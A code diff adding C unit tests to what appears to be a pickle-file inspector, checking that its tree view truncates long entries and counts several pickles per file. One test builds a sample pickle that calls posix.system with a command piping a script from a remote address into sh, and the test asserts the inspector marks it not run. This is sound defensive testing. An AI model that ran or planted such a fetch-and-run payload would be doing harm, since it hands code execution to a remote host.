@@ -445,3 +445,37 @@ TEST(guides_never_take_more_than_half_of_the_line)
     }
     sample_release(&s);
 }
+
+TEST(that_a_call_was_not_run_is_said_also_where_there_is_little_room)
+{
+    struct sample s;
+    struct values *values;
+    uint32_t run[1];
+
+    sample_begin(&s, "bad.pkl");
+    values = build_values(&s.build);
+    run[0] = value_str(values, STR("curl -s http://203.0.113.7/x.sh | sh"));
+    CHECK(build_pickle_global(&s.build, STR("posix.system"), 5) == 0);
+    sample_value(&s, 0, "best_acc1",
+                 value_make(values, VALUE_CALL, STR("posix.system"), run, 1));
+    sample_finish(&s);
+    CHECK_STR(sample_tree(&s, &everything, 50),
+              "bad.pkl: dict with 1 key\n"
+              "├── 0 parameters\n"
+              "└── ✗ best_acc1: posix.system(\"curl -s …   not run\n");
+    sample_release(&s);
+}
+
+TEST(several_pickles_in_a_file_are_counted)
+{
+    struct sample s;
+
+    sample_begin(&s, "two.pkl");
+    sample_value(&s, 0, "pickle 1", value_int(build_values(&s.build), 1));
+    sample_value(&s, 0, "pickle 2", value_int(build_values(&s.build), 2));
+    sample_finish(&s);
+    CHECK_STR(sample_tree(&s, &everything, 0), "two.pkl: 2 pickles\n"
+                                               "├── pickle 1: 1\n"
+                                               "└── pickle 2: 2\n");
+    sample_release(&s);
+}
